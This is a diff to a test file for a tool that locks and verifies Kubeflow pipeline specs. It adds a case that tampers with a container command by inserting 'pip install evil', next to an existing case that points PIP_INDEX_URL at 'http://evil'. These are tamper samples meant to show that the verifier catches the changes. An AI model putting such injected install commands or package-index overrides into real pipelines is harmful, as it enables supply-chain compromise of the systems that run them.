@@ -23,6 +23,13 @@ def _container(doc, label=EXEC):
     return doc["deploymentSpec"]["executors"][label]["container"]
 
 
+def _inject_pip_install(doc):
+    c = _container(doc)
+    c["command"] = [p.replace("_KFP_RUNTIME=true python3", "pip install evil && _KFP_RUNTIME=true python3")
+                    for p in c["command"]]
+    assert any("pip install evil" in p for p in c["command"])
+
+
 def _edit_code(doc):
     c = _container(doc)
     c["command"] = [part.replace("b = my - a * mx", "b = my - a * mx + 1") for part in c["command"]]
@@ -57,7 +64,7 @@ def test_edited_component_code_is_named(sample, edited):
     lock = lk.create_lock(sample)
     [f] = lk.verify_lock(edited(_edit_code), lock)
     assert f.id == lk.CHANGED and f.severity is Severity.HIGH
-    assert f.data["executor"] == EXEC and "embedded_code" in f.data["parts"]
+    assert f.data["executor"] == EXEC and f.data["parts"] == ["embedded_code"]
     assert "comp-train-model" in f.message and "task train-model" in f.message
     assert f.location.field == f"deploymentSpec.executors.{EXEC}"
 
@@ -69,6 +76,7 @@ def test_edited_component_code_is_named(sample, edited):
         (lambda d: _container(d)["args"].append("--extra"), "args"),
         (lambda d: _container(d).__setitem__("env", [{"name": "PIP_INDEX_URL", "value": "http://evil"}]), "container"),
         (lambda d: _container(d)["command"].insert(0, "strace"), "command"),
+        (_inject_pip_install, "command"),
     ],
 )
 def test_each_part_is_covered(sample, edited, change, part):
